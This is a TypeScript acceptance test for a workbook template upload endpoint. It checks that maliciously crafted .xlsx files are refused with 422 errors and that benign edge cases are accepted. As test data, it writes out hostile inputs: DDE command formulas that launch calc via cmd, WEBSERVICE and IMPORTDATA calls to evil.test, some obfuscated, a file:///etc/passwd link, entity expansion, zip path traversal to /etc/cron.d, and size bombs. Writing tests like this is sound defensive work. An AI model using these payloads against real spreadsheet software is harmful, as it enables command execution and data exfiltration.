/** Templates 5, acceptance 3: workbooks that were made to do harm are 422 or right, never 500. @seconds 30 */
import { unpacked, packed, type Parts } from '../../../src/templates/workbook/package.js';
import { TestServer } from '../../support/server.js';
import { fetched, opened, sent, sheetOf } from './support.js';

const PATH = '/api/templates/try';
type Change = (parts: Parts) => void;

const set =
  (name: string, content: string): Change =>
  (parts) =>
    void parts.set(name, Buffer.from(content));
const edit =
  (name: string, from: string | RegExp, to: string): Change =>
  (parts) => {
    const text = parts.get(name)!.toString();
    const changed = text.replace(from, () => to);
    if (changed === text) throw new Error(`${name} has no ${String(from)}`);
    parts.set(name, Buffer.from(changed));
  };
const SHEET = 'xl/worksheets/sheet1.xml';
const RELATIONS = 'xl/worksheets/_rels/sheet1.xml.rels';
const relation = (type: string, target: string, mode = ''): Change =>
  set(
    RELATIONS,
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
  );
const both =
  (...changes: Change[]): Change =>
  (parts) =>
    changes.forEach((change) => change(parts));
const drawing = (inner: string): Change =>
  both(
    relation('drawing', '../drawings/drawing1.xml'),
    set('xl/drawings/drawing1.xml', `<xdr:wsDr xmlns:xdr="x">${inner}</xdr:wsDr>`),
  );
const formula = (text: string): Change => edit(SHEET, '</row>', `<c r="D1"><f>${text}</f></c></row>`);

const disguised = both(
  drawing('<xdr:pic/>'),
  set(
    'xl/drawings/_rels/drawing1.xml.rels',
    `<Relationships><Relationship Id="a" Type="http://x/image" Target="https://evil.test/x.png? TargetMode='Internal'" TargetMode="External"/></Relationships>`,
  ),
);

const REFUSED: ReadonlyArray<readonly [string, Change, RegExp]> = [
  ['macros', set('xl/vbaProject.bin', 'x'), /xl\/vbaProject\.bin holds a macro/],
  [
    'the type of macros',
    edit('[Content_Types].xml', 'spreadsheetml.sheet.main', 'spreadsheetml.macroEnabled.main'),
    /macro/,
  ],
  ['a sheet of macros', set('xl/macrosheets/sheet1.xml', '<x/>'), /macro/],
  ['another workbook', set('xl/externalLinks/externalLink1.xml', '<x/>'), /a link to something outside/],
  ['a connection', set('xl/connections.xml', '<x/>'), /a connection to data outside/],
  [
    'a pivot table',
    both(relation('pivotTable', '../pivotTables/pivotTable1.xml'), set('xl/pivotTables/pivotTable1.xml', '<x/>')),
    /Sheet Sheet holds a pivot table \(xl\/pivotTables\/pivotTable1\.xml\)/,
  ],
  ['a slicer', set('xl/slicers/slicer1.xml', '<x/>'), /a slicer/],
  ['a control', set('xl/ctrlProps/ctrlProp1.xml', '<x/>'), /a control/],
  ['an object', set('xl/embeddings/oleObject1.bin', 'x'), /an embedded object/],
  ['a chart', both(drawing('<xdr:graphicFrame/>'), set('xl/charts/chart1.xml', '<c/>')), /a chart/],
  ['a shape', drawing('<xdr:twoCellAnchor><xdr:sp/></xdr:twoCellAnchor>'), /Sheet Sheet holds a shape/],
  [
    'a control in a drawing of notes',
    both(
      relation('vmlDrawing', '../drawings/vmlDrawing1.vml'),
      set('xl/drawings/vmlDrawing1.vml', '<x:ClientData ObjectType="Button">'),
    ),
    /a control/,
  ],
  [
    'a picture from outside',
    both(
      drawing('<xdr:pic/>'),
      set(
        'xl/drawings/_rels/drawing1.xml.rels',
        '<Relationships><Relationship Id="a" Type="http://x/image" Target="https://evil.test/x.png" TargetMode="External"/></Relationships>',
      ),
    ),
    /outside/,
  ],
  ['a link to a file', relation('hyperlink', 'file:///etc/passwd', ' TargetMode="External"'), /outside/],
  ['a part that is not known', set('xl/unknown/part.xml', '<x/>'), /not known here/],
  ['a picture from outside that says otherwise within its address', disguised, /outside/],
  ...(['connections', 'vbaProject', 'externalLink', 'oleObject', 'queryTable', 'control', 'chart'] as const).map(
    (type): (typeof REFUSED)[number] => [
      `what is a ${type} and goes by another name`,
      both(relation(type, '../media/c.xml'), set('xl/media/c.xml', '<x/>')),
      /Sheet Sheet holds .* \(xl\/media\/c\.xml\)/,
    ],
  ),
  [
    'a connection by the type of its content',
    both(
      set('xl/media/c.xml', '<x/>'),
      edit(
        '[Content_Types].xml',
        '</Types>',
        '<Override PartName="/xl/media/c.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
      ),
    ),
    /a connection to data outside/,
  ],
  ['a web service behind a blank', formula('_xlfn.WEBSERVICE ("https://evil.test/")'), /asks outside/],
  ['a web service behind a line break', formula('WEBSERVICE\n("https://evil.test/")'), /asks outside/],
  ['a web service with an element within', formula('WEB<x/>SERVICE("https://evil.test/")'), /asks outside/],
  ['data that Google asks for', formula('IMPORTDATA("https://evil.test/")'), /asks outside/],
  ...['_xlfn.WEBSERVICE ("https://evil.test/")', 'WEB<?x?>SERVICE("https://evil.test/")', 'IMPORTXML("x","y")'].map(
    (text): (typeof REFUSED)[number] => [
      `a name that is ${text}`,
      edit(
        'xl/workbook.xml',
        '</sheets>',
        `</sheets><definedNames><definedName name="evil">${text}</definedName></definedNames>`,
      ),
      /evil: this formula asks outside/,
    ],
  ),
  [
    'merged cells that reach out of a repeated row',
    edit(SHEET, '</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>'),
    /Sheet Sheet, A2:A3: merged cells reach into or out of a row that is repeated/,
  ],
  ['DDE', formula("cmd|'/C calc'!A0"), /Sheet Sheet, D1: this formula asks outside/],
  ['another workbook in a formula', formula('[1]Sheet1!A1'), /asks outside/],
  ['a web service', formula('_xlfn.WEBSERVICE("https://evil.test/"&amp;A1)'), /asks outside/],
  [
    'DDE in a rule',
    edit(
      SHEET,
      '</sheetData>',
      '</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|"x"!A1</formula></cfRule></conditionalFormatting>',
    ),
    /asks outside/,
  ],
  [
    'DDE in a name',
    edit(
      'xl/workbook.xml',
      '</sheets>',
      `</sheets><definedNames><definedName name="evil">cmd|'/C calc'!A0</definedName></definedNames>`,
    ),
    /evil: this formula asks outside/,
  ],
  ['a formula through sheets', formula("SUM('One:Three'!A1)"), /several sheets/],
  ['unfolding entities', edit(SHEET, '<worksheet', '<!DOCTYPE a [<!ENTITY b "bbbb">]><worksheet'), /cannot be read/],
  ['a comment in a sheet', edit(SHEET, '<sheetData>', '<!-- <sheetData> --><sheetData>'), /cannot be read/],
  ['a tag that is not closed', edit(SHEET, '</sheetData>', ''), /cannot be read/],
  ['the end of the text', (parts) => parts.set(SHEET, parts.get(SHEET)!.subarray(0, 300)), /cannot be read/],
  [
    'no UTF-8',
    (parts) => parts.set(SHEET, Buffer.concat([Buffer.from([0xff, 0xfe]), parts.get(SHEET)!])),
    /cannot be read/,
  ],
  ['a cell without a place', edit(SHEET, '<c r="A1"', '<c'), /cannot be read/],
  ['a cell beyond the sheet', edit(SHEET, '<c r="A1"', '<c r="ZZZZ1"'), /cannot be read/],
  ['a cell in another row', edit(SHEET, '<c r="A1"', '<c r="A7"'), /cannot be read/],
  ['a row beyond the sheet', edit(SHEET, '<row r="1"', '<row r="1048577"'), /cannot be read/],
  ['rows without order', edit(SHEET, '</sheetData>', '<row r="1"/></sheetData>'), /cannot be read/],
  [
    'elements within each other',
    edit(SHEET, '</sheetData>', `</sheetData>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`),
    /cannot be read/,
  ],
  ['a tag that does not end', edit(SHEET, '<sheetData', `<x a="${'y'.repeat(1 << 20)}"/><sheetData`), /cannot be read/],
  ['no sheets', edit('xl/workbook.xml', /<sheet .*?\/>/, ''), /cannot be read/],
  ['no workbook', (parts) => parts.delete('xl/workbook.xml'), /no \.xlsx workbook/],
  [
    'a million styles',
    edit('xl/styles.xml', /<cellXfs.*?<\/cellXfs>/s, `<cellXfs>${'<xf/>'.repeat(1_000_000)}</cellXfs>`),
    /more than 65490 of xf/,
  ],
  [
    'a million merged cells',
    edit(SHEET, '</sheetData>', `</sheetData><mergeCells>${'<mergeCell/>'.repeat(700_000)}</mergeCells>`),
    /more than 65490/,
  ],
  [
    'cells without end',
    edit(SHEET, '</sheetData>', `<row r="9">${'<c r="A9"/>'.repeat(100_001)}</row></sheetData>`),
    /more than 100000 of c/,
  ],
  ['a bomb', (parts) => parts.set('xl/media/image1.png', Buffer.alloc(11 << 20)), /larger than 10 MB/],
  [
    'parts without end',
    (parts) => {
      for (let i = 0; i < 1001; i++) parts.set(`xl/media/i${i}.png`, Buffer.from(''));
    },
    /more than 1000 of part/,
  ],
  ['a way out of the archive', set('xl/../../../etc/cron.d/x', 'x'), /cannot be read|not known/],
];

const RIGHT: ReadonlyArray<readonly [string, Change]> = [
  [
    'a rule for a whole sheet',
    edit(
      SHEET,
      '</sheetData>',
      '</sheetData><dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
    ),
  ],
  [
    'all below merged',
    edit(SHEET, '</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="F3:XFD1048576"/></mergeCells>'),
  ],
  [
    'a link to the web',
    both(
      relation('hyperlink', 'https://example.org/', ' TargetMode="External"'),
      edit(SHEET, '</sheetData>', '</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks>'),
    ),
  ],
  [
    'a name that is no reference',
    edit(
      'xl/workbook.xml',
      '</sheets>',
      '</sheets><definedNames><definedName name="half">1/2</definedName></definedNames>',
    ),
  ],
  [
    'shared formulas',
    edit(
      SHEET,
      '</sheetData>',
      '<row r="8"><c r="A8"><f t="shared" si="0" ref="A8:A9">B8*2+$B$1</f><v>4</v></c><c r="B8"><v>2</v></c></row><row r="9"><c r="A9"><f t="shared" si="0"/><v>6</v></c><c r="B9"><v>3</v></c></row></sheetData>',
    ),
  ],
  [
    'a formula that shares nothing',
    edit(SHEET, '</sheetData>', '<row r="8"><c r="A8"><f t="shared" si="7"/></c></row></sheetData>'),
  ],
  ['a column over all', edit(SHEET, '<sheetData>', '<cols><col min="1" max="16384" width="9"/></cols><sheetData>')],
  ['settings of a printer', set('xl/printerSettings/printerSettings1.bin', 'x')],
  ['properties', set('docProps/custom.xml', '<Properties/>')],
];

describe('hostile workbooks', () => {
  let server: TestServer;
  let plain: Buffer;
  const tried = (file: Buffer) => sent(server, 'POST', PATH, file, { kind: 'workbook', type: 'sites' });
  const changed = async (change: Change): Promise<Buffer> => {
    const parts = await unpacked(plain);
    change(parts);
    return packed(parts);
  };

  beforeAll(async () => {
    server = await TestServer.start('sqlite');
    for (const name of ['North', 'South']) await server.post('/api/sites', { name });
    plain = await sheetOf([['Name', 1, '{{ today }}'], ['{{ object.name }}']]);
  });
  afterAll(() => server.stop());

  it.each(REFUSED)('are refused: %s', async (_, change, sentence) => {
    const began = performance.now();
    const { status, body } = await tried(await changed(change));
    expect([status, Object.keys(body.errors ?? {}), body.errors?.file.join('\n')]).toEqual([
      422,
      ['file'],
      expect.stringMatching(sentence),
    ]);
    expect(performance.now() - began).toBeLessThan(20_000);
  });

  it.each(RIGHT)('are right: %s', async (_, change) => {
    const form = new FormData();
    for (const [name, value] of Object.entries({ kind: 'workbook', type: 'sites' })) form.append(name, value);
    form.append('file', new Blob([Uint8Array.from(await changed(change))]), 'x.xlsx');
    const { status, bytes } = await fetched(server, PATH, { form });
    expect([status, status === 200 ? '' : bytes.toString()]).toEqual([200, '']);
    const parts = await unpacked(bytes);
    expect([...parts.keys()].sort()).toEqual([...(await unpacked(await changed(change))).keys()].sort());
    if (!/dataValidation|XFD1048576/.test(parts.get(SHEET)!.toString()))
      expect((await opened(bytes)).worksheets[0]!.getCell('A3').value).toBe('South');
  });

  it('are right: shared formulas get their own', async () => {
    const [, change] = RIGHT.find(([name]) => name === 'shared formulas')!;
    const { body } = await sent(
      server,
      'POST',
      PATH,
      await changed(change),
      { kind: 'workbook', type: 'sites' },
      { headers: { accept: 'application/json' } },
    );
    expect(body.sheets[0].rows.slice(8)).toEqual([
      ['=B9*2+$B$1', '2'],
      ['=B10*2+$B$1', '3'],
    ]);
  });

  it.each([
    ['nothing of a workbook', Buffer.from('Name;Id\n')],
    ['an older workbook', Buffer.from('d0cf11e0a1b11ae1'.repeat(100), 'hex')],
    ['an empty archive', Buffer.from('504b0506000000000000000000000000000000000000', 'hex')],
    ['one byte', Buffer.from('P')],
  ])('are refused: %s', async (_, file) => {
    const { status, body } = await tried(file);
    expect([status, body.errors.file[0]]).toEqual([422, expect.stringMatching(/is no \.xlsx workbook/)]);
  });

  it('are refused: a workbook of another format', async () => {
    const mimetype = Buffer.from('application/vnd.oasis.opendocument.spreadsheet');
    const file = await packed(new Map([...Object.entries({ mimetype, 'content.xml': Buffer.from('<x/>') })]));
    expect((await tried(file)).body.errors.file).toEqual([expect.stringMatching(/save it as \.xlsx/)]);
  });

  it('are told once: a chart, with its part', async () => {
    const chart = both(
      drawing('<xdr:twoCellAnchor><xdr:graphicFrame/></xdr:twoCellAnchor>'),
      set(
        'xl/drawings/_rels/drawing1.xml.rels',
        '<Relationships><Relationship Id="a" Type="http://x/chart" Target="../charts/chart1.xml"/></Relationships>',
      ),
      set('xl/charts/chart1.xml', '<c/>'),
    );
    expect((await tried(await changed(chart))).body.errors.file).toEqual([
      expect.stringMatching(/Sheet Sheet holds a chart \(xl\/charts\/chart1\.xml\)/),
    ]);
  });

  it('are refused: half of one, and one with other bytes in it', async () => {
    expect((await tried(plain.subarray(0, plain.length >> 1))).status).toBe(422);
    for (let i = 0; i < 40; i++) {
      const broken = Buffer.from(plain);
      for (let k = 0; k < 5; k++) broken[(i * 7919 + k * 104_729) % broken.length]! ^= 0x55;
      expect([200, 422]).toContain((await tried(broken)).status);
    }
  });
});
